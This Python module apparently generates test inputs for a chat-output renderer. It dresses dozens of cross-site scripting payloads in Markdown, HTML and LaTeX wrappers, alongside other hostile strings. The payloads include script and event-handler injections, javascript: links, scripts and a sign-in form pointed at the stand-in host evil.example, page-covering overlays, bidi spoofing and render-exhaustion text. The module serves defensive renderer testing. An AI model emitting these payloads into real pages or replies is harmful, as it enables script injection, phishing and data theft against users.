"""Two thousand hostile completions: every attack in every dress, the same ones each time."""

import random

COUNT = 2000

ATTACKS = (
    # Script, however it is spelled.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/src=data:,alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\n>alert`1`</script\n>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    # Handlers.
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) style='position:fixed;inset:0;z-index:99'>x</div>",
    # SVG.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>*{display:none}</style></svg>",
    # MathML and formulas.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed;inset:0}{x}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$$\\text{&lt;img src=x onerror=alert(1)&gt;}$$",
    "\\(\\hspace{-900em}x\\raisebox{900em}{y}\\)",
    "\\[\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\c\\c}\\newcommand{\\c}{aaaa}\\a\\a\\a\\]",
    "\\[\\color{white}\\Huge\\rule{900em}{900em}\\]",
    "$" + "{" * 90 + "x" + "}" * 90 + "$",
    "$" + "x^{" * 40 + "y" + "}" * 40 + "$",
    "$" + "\\Bigg(" * 60 + "$",
    # Style and frames of the page.
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div class='topbar choice-bar' id='left' style='background:url(//evil.example/x)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "<base href=//evil.example/><form action=//evil.example/><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "</div></section></main></body></html><h1>outside</h1>",
    "<textarea><title><xmp><plaintext>",
    "<template shadowrootmode=open><style>:host{all:initial}</style></template>",
    # Links and images.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1)) [y](&#106;avascript:alert(1)) [z](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox) [y](file:///etc/passwd) [z](blob:null/1)",
    "[x](//evil.example) [y](/logout/) [z](\\\\evil.example)",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    '[a](https://x.example "\\" onmouseover=alert(1) x=\\"")',
    '<https://evil.example/"onclick=alert(1)> <javascript:alert(1)>',
    "[x]: javascript:alert(1)\n\n[x] [y][x]",
    # Code.
    '```"><script>alert(1)</script>\ncode\n```',
    "```x onclick=alert(1) class=topbar\ncode\n```",
    "```html\n<script>alert(1)</script><!--\n```",
    "```c\n" + "/*" * 300 + "\n```",
    "`<img src=x onerror=alert(1)>`",
    # Text that misleads, sprawls or breaks.
    "\u202egnihton si siht\u202c \u2066\u2067\u2068 never closed",
    "\u202e" * 50 + "evil",
    "Z" + "".join(map(chr, range(0x300, 0x340))) * 8,
    "\u200b\u200d\ufeff\u00ad" * 40,
    "\ud800 \udfff \ufffe \uffff \x01\x02\x7f\x9f",
    "\U000e0001\U000e0041 \U0001f3f4" * 20,
    "﷽" * 60,
    "W" * 4000,
    "\u0e48" * 500,
    "> " * 200 + "deep",
    "- " * 100 + "deep",
    "*" * 1500 + "x",
    "[" * 800 + "]" * 800,
    "|a" * 120 + "|\n" + "|-" * 120 + "|\n" + "|b" * 120 + "|",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|-|-|\n| $\\href{javascript:x}{y}$ | `|` |",
    "# " + "H" * 900,
    "1. " * 60 + "x",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E; &lt;script&gt; &amp;lt;script&amp;gt;",
    "<!-- --!><img src=x onerror=alert(1)> --> <![CDATA[<script>alert(1)</script>]]> <?php x ?>",
)
DRESSES = (
    "{}",
    "Sure! Here it is:\n\n{}\n\nAnything else?",
    "**{}**",
    "> {}",
    "- one\n- {}\n- three",
    "1. {}",
    "# {}",
    "| a | b |\n|---|---|\n| {} | c |",
    "[{}](https://example.org)",
    "[link]({})",
    "![{}](https://example.org/x.png)",
    "`{}`",
    "```\n{}\n```",
    "```python\n{}\n```",
    "```html\n{}\n```",
    "    {}",
    "~~{}~~ *{}*",
    "${}$",
    "\\({}\\)",
    "$$\n{}\n$$",
    "\\[\\text{{{}}}\\]",
    "<b>{}</b>",
    "<div>\n{}\n</div>",
    "> - > 1. {}",
    "\u202e{}",
    "{}{}{}",
    "{}\n===",
)


def hostile_texts() -> list[str]:
    """COUNT of them, no two alike."""
    texts = [
        dress.replace("{{", "{").replace("}}", "}").replace("{}", attack) for dress in DRESSES for attack in ATTACKS
    ]
    chance = random.Random(7)
    while len(set(texts)) < 2 * COUNT:  # and mixtures of two
        one, other = chance.sample(texts, 2)
        texts.append(f"{one}\n\n{other}")
    texts = list(dict.fromkeys(texts))
    first, rest = texts[: len(ATTACKS)], texts[len(ATTACKS) :]  # every attack as it is, then any
    return first + chance.sample(rest, COUNT - len(first))
